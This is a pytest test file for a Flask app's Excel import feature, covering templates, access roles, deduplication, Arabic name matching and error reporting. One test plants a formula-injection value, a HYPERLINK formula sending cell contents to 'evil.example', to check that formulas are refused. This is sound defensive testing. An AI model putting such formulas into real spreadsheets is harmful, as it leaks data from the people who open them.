@@ -1,0 +1,618 @@
+"""Import from Excel: an office brings its spreadsheets in, whole, once, and never half-way."""
+
+import io
+import re
+import zipfile
+from datetime import date
+
+import openpyxl
+import pytest
+from flask_babel import force_locale, gettext
+from markupsafe import escape
+
+from coalition.extensions import db
+from coalition.models import (
+    AwarenessActivity,
+    Case,
+    Contact,
+    Event,
+    Meeting,
+    Partner,
+    Publication,
+    Training,
+    Video,
+)
+
+MODELS = (Contact, Partner, Meeting, Training, Video, AwarenessActivity, Event, Publication, Case)
+
+
+# --- helpers --------------------------------------------------------------------------------
+def template(client) -> openpyxl.Workbook:
+    """The template workbook the app offers, opened for filling in."""
+    response = client.get("/import/template")
+    assert response.status_code == 200
+    assert response.mimetype.endswith("spreadsheetml.sheet")
+    return openpyxl.load_workbook(io.BytesIO(response.data))
+
+
+def fill(book: openpyxl.Workbook, sheet: str, *rows: dict) -> None:
+    """Append rows to a sheet, each given as field key -> value (keys from the hidden row 1)."""
+    ws = book[sheet]
+    keys = [cell.value for cell in ws[1]]
+    for row in rows:
+        unknown = set(row) - set(keys)
+        assert not unknown, f"no such column on {sheet}: {unknown}"
+        ws.append([row.get(key) for key in keys])
+
+
+def as_bytes(book: openpyxl.Workbook) -> bytes:
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+def upload(client, data: bytes, name: str = "office.xlsx", **form):
+    """Post a file to the import page, as a user's browser does."""
+    return client.post("/import/", data={"workbook": (io.BytesIO(data), name), **form},
+                       content_type="multipart/form-data")
+
+
+def problems(response) -> list[tuple[str, str, str, str]]:
+    """(sheet, row, column, field) of every problem the report lists."""
+    return re.findall(r'<tr data-sheet="([^"]*)" data-row="([^"]*)" data-column="([^"]*)" '
+                      r'data-field="([^"]*)">', response.get_data(as_text=True))
+
+
+def counts(response) -> dict[str, tuple[int, int, int]]:
+    """Sheet -> (created, updated, skipped) from the report."""
+    found = re.findall(r'<tr data-sheet="(\w+)"><td><bdi>\w+</bdi></td><td class="created">(\d+)'
+                       r'</td><td class="updated">(\d+)</td><td class="skipped">(\d+)</td>',
+                       response.get_data(as_text=True))
+    return {sheet: tuple(map(int, numbers)) for sheet, *numbers in found}
+
+
+def english(client):
+    """The same client, with English chosen for its pages and messages."""
+    assert client.post("/language/en", data={"next": "/import/"}).status_code == 302
+    return client
+
+
+def written(response) -> bool:
+    return 'data-written="yes"' in response.get_data(as_text=True)
+
+
+def record_counts(app) -> dict[str, int]:
+    with app.app_context():
+        return {model.__tablename__: db.session.query(model).count() for model in MODELS}
+
+
+def kpis(client) -> dict:
+    response = client.get("/api/kpis")
+    assert response.status_code == 200
+    return response.get_json()["kpis"]
+
+
+def office_workbook(client) -> openpyxl.Workbook:
+    """A filled template: every sheet, coded values given as codes, Arabic and English labels."""
+    book = template(client)
+    fill(book, "contacts",
+         {"name": "أحمد الحلبي", "organisation": "رئاسة الهجرة", "kind": "person",
+          "category": "government", "title": "مدير", "city": "إسطنبول", "country": "تركيا",
+          "phone": 905551112233, "email": "ahmad@example.org"},
+         {"name": "İHH", "kind": "Entity", "category": "مجتمع مدني", "city": "Istanbul"})
+    fill(book, "partners",
+         {"name_ar": "جمعية التضامن", "name_latin": "Dayanisma Dernegi", "origin": "turkish",
+          "sector": "ngo", "partnership_status": "active", "partnership_start": "2023-01-15",
+          "written_agreement": "نعم", "office": "protection"},
+         {"name_ar": "المفوضية", "name_latin": "UNHCR", "origin": "International",
+          "sector": "un"})
+    fill(book, "meetings",
+         {"date": date(2024, 3, 5), "office": "protection", "counterpart_category": "tr_ngo",
+          "government": "no", "comprehensive": "no", "counterparts": "Dayanisma Dernegi",
+          "city": "إسطنبول", "topic": "تنسيق الحماية"},
+         {"date": "2024-03-06", "office": "مكتب الحماية", "track": "networking",
+          "counterpart_category": "المؤسسات التركية الحكومية وغير الحكومية",
+          "government": "نعم", "comprehensive": "لا", "counterpart_level": "نائب وزير",
+          "city": "أنقرة", "topic": "لقاء رئاسة الهجرة"},
+         {"date": "07/03/2024", "office": "Protection Office",
+          "counterpart_category": "Arab and international institutions", "government": False,
+          "comprehensive": "yes", "counterparts": "جمعية التضامن; UNHCR",
+          "topic": "اجتماع المسار الشهري"})
+    fill(book, "trainings",
+         {"title": "ورشة الامتثال", "kind": "workshop", "start_date": "2024-04-01",
+          "end_date": "2024-04-02", "hours": 6, "participants": 25, "trainers": 2,
+          "online": "no"})
+    fill(book, "videos",
+         {"title": "حقوقك في الإقامة", "kind": "awareness_video", "published_on": "2024-02-01",
+          "platform": "youtube", "link": "https://example.org/v/1", "views": 1200})
+    fill(book, "activities",
+         {"title": "جلسة توعية قانونية", "date": "2024-05-01", "attendees": 40,
+          "partners": "UNHCR", "topic": "الحماية المؤقتة"})
+    fill(book, "events",
+         {"title": "ندوة عن الترحيل", "kind": "webinar", "date": "2024-05-10", "online": "yes",
+          "attendees": 80, "partners": "جمعية التضامن"})
+    fill(book, "publications",
+         {"title": "ورقة سياسات", "kind": "policy_paper", "date": "2022-07-17",
+          "word_count": 1300})
+    same_case = {"opened_on": "2024-01-10", "problem_category": "residence",
+                 "consultation_outcome": "directed_to_procedure", "mediation": "immigration",
+                 "status": "follow_up"}
+    fill(book, "cases", same_case, same_case,
+         {"opened_on": "2024-01-11", "problem_category": "deportation",
+          "consultation_outcome": "not_legally_possible", "court_referral": "sponsored",
+          "referral_result": "positive", "status": "closed", "closed_on": "2024-02-01"})
+    return book
+
+
+# --- the template ---------------------------------------------------------------------------
+def test_the_template_has_a_sheet_per_record_type_with_keys_labels_and_lists(login):
+    client = login("coordinator_a")
+    book = template(client)
+    assert book.sheetnames[0] == "instructions"
+    for name in ("contacts", "partners", "meetings", "trainings", "videos", "activities",
+                 "events", "publications", "cases"):
+        assert name in book.sheetnames
+    meetings = book["meetings"]
+    keys = [cell.value for cell in meetings[1]]
+    assert keys[:2] == ["date", "office"]
+    assert {"counterpart_category", "government", "comprehensive", "counterparts", "city",
+            "topic"} <= set(keys)
+    assert meetings.row_dimensions[1].hidden
+    labels = [cell.value for cell in meetings[2]]
+    assert labels[0].startswith("التاريخ")  # the coordinator's language: Arabic by default
+    assert meetings.sheet_view.rightToLeft
+    contact_keys = [cell.value for cell in book["contacts"][1]]
+    assert contact_keys[:9] == ["name", "organisation", "kind", "category", "title", "city",
+                                "country", "phone", "email"]
+    assert "reference" not in [cell.value for cell in book["cases"][1]]
+    assert "full_name" not in [cell.value for cell in book["cases"][1]]
+    # coded columns have a drop-down of codes and labels
+    validated = {str(v.sqref).split(":")[0] for v in meetings.data_validations.dataValidation}
+    category = keys.index("counterpart_category") + 1
+    assert f"{openpyxl.utils.get_column_letter(category)}3" in validated
+    lists = book["lists"]
+    offered = {cell.value for row in lists.iter_rows() for cell in row}
+    assert {"tr_ngo", "منظمات المجتمع المدني التركية", "protection"} <= offered
+    assert "detainees" not in offered  # a coordinator imports into their own office only
+
+
+def test_the_template_speaks_the_users_language(app, login):
+    client = login("admin")
+    client.post("/language/en", data={"next": "/import/"})
+    book = template(client)
+    assert book["meetings"]["A2"].value == "Date *"
+    assert not book["meetings"].sheet_view.rightToLeft
+    assert "Protection Office" in {c.value for row in book["lists"].iter_rows() for c in row}
+
+
+def test_the_import_page_is_for_those_who_write(login):
+    assert login("coordinator_a").get("/import/").status_code == 200
+    assert login("admin").get("/import/").status_code == 200
+    for role in ("donor", "leadership"):
+        client = login(role)
+        assert client.get("/import/").status_code == 403
+        assert client.get("/import/template").status_code == 403
+        assert upload(client, b"x").status_code == 403
+
+
+def test_anonymous_users_are_sent_to_sign_in(app):
+    response = app.test_client().get("/import/")
+    assert response.status_code == 302 and "/login" in response.headers["Location"]
+
+
+# --- importing ------------------------------------------------------------------------------
+def test_a_filled_template_is_imported_and_moves_the_kpis(app, world, login):
+    client = login("coordinator_a")
+    before = kpis(client)
+    response = upload(client, as_bytes(office_workbook(client)))
+    assert response.status_code == 200
+    assert written(response), problems(response)
+    assert counts(response) == {
+        "contacts": (2, 0, 0), "partners": (2, 0, 0), "meetings": (3, 0, 0),
+        "trainings": (1, 0, 0), "videos": (1, 0, 0), "activities": (1, 0, 0),
+        "events": (1, 0, 0), "publications": (1, 0, 0), "cases": (3, 0, 0)}
+
+    with app.app_context():
+        ahmad = db.session.query(Contact).filter_by(email="ahmad@example.org").one()
+        assert (ahmad.name, ahmad.organisation, ahmad.kind_code, ahmad.category) == (
+            "أحمد الحلبي", "رئاسة الهجرة", "person", "government")
+        assert ahmad.phone == "905551112233"  # a number typed in a phone cell stays whole
+        assert ahmad.created_by.username == "coord_a" and ahmad.created_at is not None
+        ihh = db.session.query(Contact).filter_by(name="İHH").one()
+        assert (ihh.kind_code, ihh.category) == ("entity", "civil_society")
+
+        solidarity = db.session.query(Partner).filter_by(name_latin="Dayanisma Dernegi").one()
+        assert (solidarity.origin, solidarity.sector, solidarity.partnership_status) == (
+            "turkish", "ngo", "active")
+        assert solidarity.partnership_start == date(2023, 1, 15)
+        assert solidarity.written_agreement and solidarity.office_id == world["office_a"]
+        unhcr = db.session.query(Partner).filter_by(name_latin="UNHCR").one()
+        assert (unhcr.origin, unhcr.partnership_status) == ("international", "none")
+
+        meetings = {m.topic: m for m in db.session.query(Meeting)}
+        assert set(meetings) == {"تنسيق الحماية", "لقاء رئاسة الهجرة", "اجتماع المسار الشهري"}
+        first = meetings["تنسيق الحماية"]
+        assert (first.date, first.counterpart_category, first.government,
+                first.comprehensive) == (date(2024, 3, 5), "tr_ngo", False, False)
+        assert [p.name_latin for p in first.partners] == ["Dayanisma Dernegi"]
+        official = meetings["لقاء رئاسة الهجرة"]
+        assert (official.counterpart_category, official.government, official.track_id,
+                official.counterpart_level) == ("tr_government", True, world["track_1"],
+                                                "نائب وزير")
+        within = meetings["اجتماع المسار الشهري"]
+        assert within.date == date(2024, 3, 7) and within.comprehensive
+        assert within.counterpart_category == "intl"
+        assert {p.name_latin for p in within.partners} == {"Dayanisma Dernegi", "UNHCR"}
+        assert all(m.office_id == world["office_a"] for m in meetings.values())
+        assert all(m.created_by.username == "coord_a" for m in meetings.values())
+
+        training = db.session.query(Training).one()
+        assert (training.title, training.training_kind, training.hours, training.participants,
+                training.trainers, training.end_date) == (
+            "ورشة الامتثال", "workshop", 6.0, 25, 2, date(2024, 4, 2))
+        video = db.session.query(Video).one()
+        assert (video.video_kind, video.platform, video.views) == ("awareness_video", "youtube",
+                                                                   1200)
+        activity = db.session.query(AwarenessActivity).one()
+        assert activity.attendees == 40 and [p.name_latin for p in activity.partners] == ["UNHCR"]
+        event = db.session.query(Event).one()
+        assert event.event_kind == "webinar" and event.online and len(event.partners) == 1
+        paper = db.session.query(Publication).one()
+        assert (paper.publication_kind, paper.word_count) == ("policy_paper", 1300)
+        cases = db.session.query(Case).order_by(Case.opened_on).all()
+        assert len(cases) == 3 and len({c.reference for c in cases}) == 3
+        assert all(c.office_id == world["office_a"] and c.personal is None for c in cases)
+        assert cases[2].status == "closed" and cases[2].referral_result == "positive"
+
+    after = kpis(client)
+    moved = {key: after[key] - before[key] for key in after if after[key] != before[key]}
+    assert moved == {
+        "contacts.total": 2,
+        "meetings.total": 3,
+        "meetings.by_counterpart.tr_ngo": 1,
+        "meetings.by_counterpart.tr_government": 1,
+        "meetings.by_counterpart.intl": 1,
+        "meetings.government": 1,
+        "meetings.comprehensive": 1,
+        "partnerships.total": 1,
+        "trainings.total": 1,
+        "workshops.total": 1,
+        "trainings.hours": 6,
+        "trainings.participants": 25,
+        "trainings.trainers": 2,
+        "videos.published": 1,
+        "videos.total": 1,
+        "awareness_activities.total": 1,
+        "events.total": 1,
+        "publications.total": 1,
+        "cases.total": 3,
+        "cases.by_outcome.directed_to_procedure": 2,
+        "cases.by_outcome.not_legally_possible": 1,
+        "cases.under_follow_up": 2,
+        "cases.mediations": 2,
+        "cases.mediations.immigration": 2,
+        "cases.court_referrals": 1,
+    }
+
+
+def test_importing_the_same_workbook_again_duplicates_nothing(app, world, login):
+    client = english(login("coordinator_a"))
+    data = as_bytes(office_workbook(client))
+    assert written(upload(client, data))
+    once, figures = record_counts(app), kpis(client)
+
+    again = upload(client, data)
+    assert again.status_code == 200 and not problems(again)
+    assert record_counts(app) == once
+    assert kpis(client) == figures
+    assert counts(again) == {
+        "contacts": (0, 0, 2), "partners": (0, 0, 2), "meetings": (0, 0, 3),
+        "trainings": (0, 0, 1), "videos": (0, 0, 1), "activities": (0, 0, 1),
+        "events": (0, 0, 1), "publications": (0, 0, 1), "cases": (0, 0, 3)}
+    assert "Already recorded." in again.get_data(as_text=True)
+
+
+def test_a_row_repeated_in_the_sheet_is_written_once(app, world, login):
+    client = english(login("coordinator_a"))
+    book = template(client)
+    meeting = {"date": "2024-03-05", "counterpart_category": "tr_ngo", "topic": "تنسيق الحماية"}
+    fill(book, "meetings", meeting, {**meeting, "topic": "  تنسيقُ الحمايه "})
+    response = upload(client, as_bytes(book))
+    assert written(response) and counts(response) == {"meetings": (1, 0, 1)}
+    assert "Same as row 3 of this sheet." in response.get_data(as_text=True)
+    with app.app_context():
+        assert db.session.query(Meeting).one().office_id == world["office_a"]
+
+
+def test_contacts_spelled_with_arabic_variants_are_matched(app, world, login):
+    client = login("coordinator_a")
+    book = template(client)
+    fill(book, "contacts",
+         {"name": "أحمد الحلبي", "organisation": "مؤسسة الإغاثة", "phone": "+90 555 000"},
+         {"name": "احمد الحلبي", "organisation": "موسسة الاغاثة"},
+         {"name": "أَحْمَد الحَلَبي", "organisation": "مؤسسه الإغاثه", "email": "a@example.org"},
+         {"name": "أحـــمد  الحلبى", "organisation": "مؤسّسة الإغاثة", "city": "غازي عنتاب"},
+         {"name": "AHMAD", "organisation": "İstanbul Office"},
+         {"name": "ahmad", "organisation": "ISTANBUL  office"})
+    first = upload(client, as_bytes(book))
+    assert written(first) and counts(first) == {"contacts": (2, 0, 4)}
+    with app.app_context():
+        contacts = db.session.query(Contact).order_by(Contact.id).all()
+        assert len(contacts) == 2
+        ahmad = contacts[0]
+        # the first spelling stays; later rows' non-empty values are merged in
+        assert (ahmad.name, ahmad.organisation) == ("أحمد الحلبي", "مؤسسة الإغاثة")
+        assert (ahmad.phone, ahmad.email, ahmad.city) == ("+90 555 000", "a@example.org",
+                                                          "غازي عنتاب")
+
+    # the directory already has him: a new spelling updates his entry with new values only
+    book = template(client)
+    fill(book, "contacts", {"name": "احمد الحلبى", "organisation": "موسسه الاغاثه",
+                            "title": "منسق", "phone": ""})
+    second = upload(client, as_bytes(book))
+    assert written(second) and counts(second) == {"contacts": (0, 1, 0)}
+    with app.app_context():
+        ahmad = db.session.query(Contact).order_by(Contact.id).first()
+        assert db.session.query(Contact).count() == 2
+        assert (ahmad.title, ahmad.phone) == ("منسق", "+90 555 000")
+        assert ahmad.version == 2 and ahmad.updated_by.username == "coord_a"
+
+
+def test_a_sheet_with_errors_writes_nothing_and_lists_every_error(app, world, login):
+    client = english(login("coordinator_a"))
+    book = template(client)
+    fill(book, "contacts", {"name": "سليم", "email": "not-an-email"},
+         {"name": "نور", "organisation": "جمعية"})  # a good row, not written either
+    fill(book, "meetings",
+         {"date": "2024-03-05", "counterpart_category": "tr_ngo", "topic": "جيد"},
+         {"date": "5 March", "counterpart_category": "nobody", "government": "maybe",
+          "topic": "x"},
+         {"date": "2024-03-07", "office": "detainees", "counterpart_category": "tr_ngo",
+          "topic": "مكتب آخر"},
+         {"date": "2024-03-08", "comprehensive": "no", "counterparts": "جهة مجهولة",
+          "topic": ""})
+    fill(book, "trainings", {"title": "ورشة", "start_date": "2024-04-02",
+                             "end_date": "2024-04-01", "hours": -3, "participants": "many"})
+    fill(book, "cases", {"opened_on": "2024-01-10", "status": "closed",
+                         "court_referral": "sponsored"})
+    before = record_counts(app)
+    response = upload(client, as_bytes(book))
+    assert response.status_code == 200 and not written(response)
+    assert record_counts(app) == before
+    listed = {(sheet, row, column, key) for sheet, row, column, key in problems(response)}
+    assert listed == {
+        ("contacts", "3", "I", "email"),
+        ("meetings", "4", "A", "date"),
+        ("meetings", "4", "E", "counterpart_category"),
+        ("meetings", "4", "F", "government"),
+        ("meetings", "5", "B", "office"),
+        ("meetings", "6", "E", "counterpart_category"),
+        ("meetings", "6", "H", "counterparts"),
+        ("meetings", "6", "K", "topic"),
+        ("trainings", "3", "D", "end_date"),
+        ("trainings", "3", "H", "hours"),
+        ("trainings", "3", "I", "participants"),
+        ("cases", "3", "J", "referral_result"),
+        ("cases", "3", "E", "closed_on"),
+    }
+    page = response.get_data(as_text=True)
+    assert "Nothing was written" in page
+    assert "Only records of" in page  # the coordinator named another office
+    assert "No partner named “جهة مجهولة”" in page
+
+
+def test_errors_are_reported_in_the_users_language(app, world, login):
+    client = login("coordinator_a")
+    book = template(client)
+    fill(book, "meetings", {"date": "2024-03-05", "counterpart_category": "tr_ngo",
+                            "government": "maybe", "topic": "x"})
+    data = as_bytes(book)
+    for lang in ("ar", "en", "tr"):
+        client.post(f"/language/{lang}", data={"next": "/import/"})
+        page = upload(client, data).get_data(as_text=True)
+        with app.test_request_context(), force_locale(lang):
+            expected = (gettext("Answer yes or no."), gettext("Official government meeting"),
+                        gettext("Nothing was written. Correct these problems and import the "
+                                "workbook again."))
+        for text in expected:
+            assert escape(text) in page, (lang, text)
+
+
+def test_a_dry_run_reports_and_writes_nothing(app, world, login):
+    client = login("coordinator_a")
+    before = record_counts(app)
+    response = upload(client, as_bytes(office_workbook(client)), dry_run="y")
+    assert response.status_code == 200 and not written(response) and not problems(response)
+    assert counts(response)["meetings"] == (3, 0, 0)
+    assert record_counts(app) == before
+
+
+def test_an_admin_imports_into_any_office(app, world, login):
+    client = login("admin")
+    book = template(client)
+    fill(book, "meetings",
+         {"date": "2024-03-05", "office": "detainees", "counterpart_category": "sy_media",
+          "topic": "لقاء"},
+         {"date": "2024-03-06", "office": "protection", "counterpart_category": "sy_media",
+          "topic": "لقاء"})
+    assert written(upload(client, as_bytes(book)))
+    with app.app_context():
+        offices = sorted(m.office_id for m in db.session.query(Meeting))
+        assert offices == sorted([world["office_a"], world["office_b"]])
+    # choosing an office fills the rows without one, and refuses rows naming another
+    book = template(client)
+    fill(book, "meetings", {"date": "2024-04-01", "counterpart_category": "intl", "topic": "أ"},
+         {"date": "2024-04-02", "office": "protection", "counterpart_category": "intl",
+          "topic": "ب"})
+    refused = upload(client, as_bytes(book), office=str(world["office_b"]))
+    assert problems(refused) == [("meetings", "4", "B", "office")]
+    fill(book, "meetings", {})
+    book["meetings"].delete_rows(4)
+    assert written(upload(client, as_bytes(book), office=str(world["office_b"])))
+    with app.app_context():
+        assert db.session.query(Meeting).filter_by(topic="أ").one().office_id == world[
+            "office_b"]
+
+
+# --- what is refused ------------------------------------------------------------------------
+def _with_cached_value(data: bytes, cell: str, value: str) -> bytes:
+    """Give a formula cell the saved result Excel would have stored with it."""
+    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
+    with zipfile.ZipFile(out, "w") as target:
+        for item in source.infolist():
+            content = source.read(item.filename)
+            if item.filename.startswith("xl/worksheets/"):
+                content = re.sub(
+                    rf'<c r="{cell}"([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?'.encode(),
+                    lambda m: (b'<c r="' + cell.encode() + b'"' + m.group(1) + b' t="str"><f>'
+                               + m.group(2) + b"</f><v>" + value.encode() + b"</v>"),
+                    content)
+            target.writestr(item, content)
+    return out.getvalue()
+
+
+def test_formulas_are_never_run(app, world, login):
+    client = english(login("coordinator_a"))
+    book = template(client)
+    fill(book, "meetings", {"date": "2024-03-05", "counterpart_category": "tr_ngo",
+                            "topic": '=HYPERLINK("http://evil.example/?"&A1,"x")'})
+    data = as_bytes(book)
+    refused = upload(client, data)
+    assert problems(refused) == [("meetings", "3", "K", "topic")]
+    assert "formula" in refused.get_data(as_text=True)
+    with app.app_context():
+        assert db.session.query(Meeting).count() == 0
+
+    # with the result Excel saved, the result is the data; the formula is never read
+    response = upload(client, _with_cached_value(data, "K3", "الموضوع المحفوظ"))
+    assert written(response), problems(response)
+    with app.app_context():
+        assert db.session.query(Meeting).one().topic == "الموضوع المحفوظ"
+
+
+def test_files_that_are_not_xlsx_get_a_clear_message(app, world, login):
+    client = english(login("coordinator_a"))
+    for data, name in ((b"name,organisation\nx,y\n", "contacts.csv"),
+                       (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "old.xls"),
+                       (b"", "empty.xlsx")):
+        response = upload(client, data, name)
+        assert response.status_code == 200, name
+        page = response.get_data(as_text=True)
+        assert "not an Excel workbook (.xlsx)" in page or "Choose a workbook" in page, name
+        assert not written(response)
+
+
+def test_a_file_over_the_size_limit_is_refused(app, world, login, monkeypatch):
+    client = english(login("coordinator_a"))
+    data = as_bytes(office_workbook(client))
+    monkeypatch.setitem(app.config, "IMPORT_MAX_BYTES", len(data) - 1)
+    response = upload(client, data)
+    assert response.status_code == 200 and "larger than the limit" in response.get_data(
+        as_text=True)
+    assert record_counts(app)["meetings"] == 0
+
+
+def test_unknown_columns_and_sheets_are_named(app, world, login):
+    client = english(login("coordinator_a"))
+    book = template(client)
+    book["contacts"]["K1"] = "nickname"
+    fill(book, "contacts", {"name": "سليم"})
+    book.create_sheet("Sheet1")["A1"] = "data"
+    response = upload(client, as_bytes(book))
+    assert not written(response)
+    page = response.get_data(as_text=True)
+    assert "Unknown column “nickname”" in page and "Unknown sheet “Sheet1”" in page
+    assert ("contacts", "1", "K", "") in problems(response)
+
+    other = openpyxl.Workbook()
+    other.active.title = "directory"
+    other.active.append(["name"])
+    other.active.append(["x"])
+    page = upload(client, as_bytes(other)).get_data(as_text=True)
+    assert "Unknown sheet “directory”" in page
+
+    empty = openpyxl.Workbook()
+    page = upload(client, as_bytes(empty)).get_data(as_text=True)
+    assert "none of the template&#39;s sheets" in page or "none of the template's sheets" in page
+
+
+def test_a_sheet_missing_a_required_column_is_refused(app, world, login):
+    client = login("coordinator_a")
+    book = openpyxl.Workbook()
+    book.active.title = "meetings"
+    book.active.append(["date", "counterpart_category"])
+    book.active.append(["2024-03-05", "tr_ngo"])
+    response = upload(client, as_bytes(book))
+    assert not written(response)
+    assert ("meetings", "1", "", "topic") in problems(response)
+
+
+def test_a_header_of_labels_in_english_or_arabic_is_understood(app, world, login):
+    client = login("coordinator_a")
+    book = openpyxl.Workbook()
+    book.active.title = "contacts"
+    book.active.append(["Name", "المؤسسة", "Email"])
+    book.active.append(["سليم", "جمعية", "s@example.org"])
+    response = upload(client, as_bytes(book))
+    assert written(response), problems(response)
+    with app.app_context():
+        contact = db.session.query(Contact).one()
+        assert (contact.organisation, contact.email) == ("جمعية", "s@example.org")
+
+
+# --- the command line -----------------------------------------------------------------------
+@pytest.fixture
+def workbook_file(app, world, login, tmp_path):
+    """A filled template saved to a file, as an office would hand it over."""
+    path = tmp_path / "office.xlsx"
+    path.write_bytes(as_bytes(office_workbook(login("admin"))))
+    return path
+
+
+def test_the_cli_dry_run_writes_nothing_and_exits_0(app, workbook_file):
+    before = record_counts(app)
+    result = app.test_cli_runner().invoke(args=["import", str(workbook_file), "--dry-run",
+                                                "--office", "protection"])
+    assert result.exit_code == 0, result.output
+    assert "Dry run" in result.output and re.search(r"meetings\s+created\s+3", result.output)
+    assert record_counts(app) == before
+
+
+def test_the_cli_imports_as_a_user_and_twice_adds_nothing(app, world, workbook_file):
+    runner = app.test_cli_runner()
+    args = ["import", str(workbook_file), "--office", "protection", "--user", "coord_a"]
+    result = runner.invoke(args=args)
+    assert result.exit_code == 0, result.output
+    once = record_counts(app)
+    assert once["meetings"] == 3 and once["contacts"] == 2
+    with app.app_context():
+        assert {m.created_by.username for m in db.session.query(Meeting)} == {"coord_a"}
+    again = runner.invoke(args=args)
+    assert again.exit_code == 0 and re.search(r"meetings\s+created\s+0", again.output)
+    assert record_counts(app) == once
+
+
+def test_the_cli_with_errors_exits_non_zero_and_writes_nothing(app, world, login, tmp_path):
+    book = office_workbook(login("admin"))
+    fill(book, "meetings", {"date": "not a date", "topic": "x", "counterpart_category": "intl"})
+    path = tmp_path / "bad.xlsx"
+    path.write_bytes(as_bytes(book))
+    result = app.test_cli_runner().invoke(args=["import", str(path), "--office", "protection",
+                                                "--lang", "en"])
+    assert result.exit_code != 0
+    assert "meetings!A6 (date): Not a date" in result.output
+    assert record_counts(app) == dict.fromkeys(record_counts(app), 0)
+    # a coordinator's rights apply on the command line too
+    result = app.test_cli_runner().invoke(args=["import", str(path), "--user", "coord_b",
+                                                "--dry-run"])
+    assert result.exit_code != 0
+
+
+def test_the_cli_writes_the_template(app, world, tmp_path):
+    path = tmp_path / "template.xlsx"
+    result = app.test_cli_runner().invoke(args=["import-template", str(path), "--lang", "en"])
+    assert result.exit_code == 0, result.output
+    book = openpyxl.load_workbook(path)
+    assert book["meetings"]["A1"].value == "date" and book["meetings"]["A2"].value == "Date *"
+    assert {"protection", "detainees"} <= {c.value for row in book["lists"].iter_rows()
+                                           for c in row}
